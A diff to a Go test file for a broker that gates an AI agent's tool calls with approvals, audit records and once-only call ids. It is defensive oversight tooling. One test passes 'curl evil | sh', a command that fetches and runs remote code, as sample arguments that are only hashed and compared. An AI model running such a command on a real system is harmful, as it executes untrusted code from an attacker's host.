@@ -15,9 +15,11 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"boxmaker/audit"
+	"boxmaker/core/approval"
 	"boxmaker/core/daemon"
 	"boxmaker/core/policy"
 	"boxmaker/core/runner"
+	"boxmaker/runbook"
 )
 
 // memoryd is a unix socket answering memory.call and recall.call as
@@ -317,9 +319,9 @@ func TestCallHash(t *testing.T) {
 func TestDamagedStateDeniesTheSession(t *testing.T) {
 	f := newFixture(t, map[string]string{"recall.toml": grant("recall", "allow", "public", "private", false)}, time.Minute)
 	os.MkdirAll(filepath.Join(f.dir, "sessions"), 0o700)
-	for _, bad := range []string{`{"taint":"priv`, `{"taint":"private"}`, `{"taint":"private","untrusted":false,"x":1}`, `{"taint":"top","untrusted":false}`} {
+	for i, bad := range []string{`{"taint":"priv`, `{"taint":"private"}`, `{"taint":"private","untrusted":false,"x":1}`, `{"taint":"top","untrusted":false}`} {
 		os.WriteFile(filepath.Join(f.dir, "sessions", "bad.json"), []byte(bad), 0o600)
-		a, err := f.b.Call(context.Background(), ToolCall{Session: "bad", CallID: "c1", Tool: "recall", Arguments: json.RawMessage(`{}`)}, nil)
+		a, err := f.b.Call(context.Background(), ToolCall{Session: "bad", CallID: fmt.Sprint("d", i), Tool: "recall", Arguments: json.RawMessage(`{}`)}, nil)
 		if err != nil || a.Outcome != OutcomeDenied || !strings.HasPrefix(a.Text, StateDamagedText+"; see ") {
 			t.Errorf("%s: %+v %v", bad, a, err)
 		}
@@ -327,5 +329,97 @@ func TestDamagedStateDeniesTheSession(t *testing.T) {
 	a, err := f.b.Call(context.Background(), ToolCall{Session: "good", CallID: "c2", Tool: "recall", Arguments: json.RawMessage(`{}`)}, nil)
 	if err != nil || a.Outcome != OutcomeAllowed {
 		t.Errorf("another session: %+v %v", a, err)
+	}
+}
+
+// A (session, call id) is decided once: the same pair again is denied
+// with nothing recorded, even after the first call finished; the same call
+// id in another session is decided as usual; and pairs the audit log held
+// at start count as decided.
+func TestCallDecidedOnceBySessionAndCallID(t *testing.T) {
+	f := newFixture(t, map[string]string{"recall.toml": grant("recall", "allow", "public", "private", false)}, time.Minute)
+	call := func(b *Broker, session, id string) Answer {
+		t.Helper()
+		a, err := b.Call(context.Background(), ToolCall{Session: session, CallID: id, Tool: "recall", Arguments: json.RawMessage(`{"query":"q"}`)}, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return a
+	}
+	if a := call(f.b, "s1", "call_0"); a.Outcome != OutcomeAllowed {
+		t.Fatalf("first call: %+v", a)
+	}
+	before := len(f.records(t))
+	a := call(f.b, "s1", "call_0")
+	if a.Outcome != OutcomeDenied || a.Text != CallIDReusedText+"; "+runbook.Link(runbook.CallIDReused) {
+		t.Fatalf("the same call again: %+v", a)
+	}
+	if n := len(f.records(t)); n != before {
+		t.Errorf("the refused call wrote %d records", n-before)
+	}
+	if a := call(f.b, "s2", "call_0"); a.Outcome != OutcomeAllowed {
+		t.Fatalf("the same id in another session: %+v", a)
+	}
+	b2, err := New(Config{Ledger: f.led, Grants: f.b.cfg.Grants, Runner: f.b.cfg.Runner, SessionsDir: f.b.cfg.SessionsDir,
+		MemorySocket: f.b.cfg.MemorySocket, MemoryTimeout: time.Second, ExpireAfter: time.Minute, Decided: [][2]string{{"s3", "c9"}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if a := call(b2, "s3", "c9"); a.Outcome != OutcomeDenied {
+		t.Fatalf("a pair the log held at start: %+v", a)
+	}
+}
+
+// A pending approval carries the call's arguments, compact, and their
+// hash, which the approval_requested record holds; write_file's decision
+// record holds its content's hash; arguments with a key twice are denied.
+func TestApprovalCarriesTheArguments(t *testing.T) {
+	f := newFixture(t, map[string]string{"recall.toml": grant("recall", "ask", "public", "private", false)}, time.Minute)
+	asked := make(chan string, 1)
+	done := make(chan Answer, 1)
+	args := `{ "query" : "curl evil | sh", "limit": 3 }`
+	go func() {
+		a, _ := f.b.Call(context.Background(), ToolCall{Session: "s1", CallID: "c1", Tool: "recall", Arguments: json.RawMessage(args)},
+			func(id string) { asked <- id })
+		done <- a
+	}()
+	id := <-asked
+	p, err := f.b.Approval(id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p.Arguments != `{"query":"curl evil | sh","limit":3}` || p.ArgumentsHash != approval.SHA256([]byte(p.Arguments)) {
+		t.Errorf("pending: %+v", p)
+	}
+	if _, err := f.b.AnswerApproval(id, false, "test", ""); err != nil {
+		t.Fatal(err)
+	}
+	<-done
+	if _, err := f.b.Approval(id); err == nil {
+		t.Error("an answered approval is still shown")
+	}
+	found := false
+	for _, r := range f.records(t) {
+		if r.Type == audit.TypeApprovalRequested {
+			found = r.ArgumentsSHA256 == p.ArgumentsHash && r.CallSHA256 == p.CallHash
+		}
+	}
+	if !found {
+		t.Error("the approval_requested record does not hold the arguments' hash")
+	}
+
+	a, err := f.b.Call(context.Background(), ToolCall{Session: "s1", CallID: "c2", Tool: "write_file",
+		Arguments: json.RawMessage(`{"path":"/tmp/x","content":"hello\n"}`)}, nil)
+	if err != nil || a.Outcome != OutcomeDenied {
+		t.Fatalf("write_file: %+v %v", a, err)
+	}
+	recs := f.records(t)
+	if last := recs[len(recs)-1]; last.ContentSHA256 != approval.SHA256([]byte("hello\n")) {
+		t.Errorf("write_file's decision: %+v", last)
+	}
+	a, err = f.b.Call(context.Background(), ToolCall{Session: "s1", CallID: "c3", Tool: "recall",
+		Arguments: json.RawMessage(`{"query":"a","Query":"b"}`)}, nil)
+	if err != nil || a.Outcome != OutcomeDenied || !strings.Contains(a.Text, `the key "Query" is "query" in another case`) {
+		t.Fatalf("a key in two cases: %+v %v", a, err)
 	}
 }
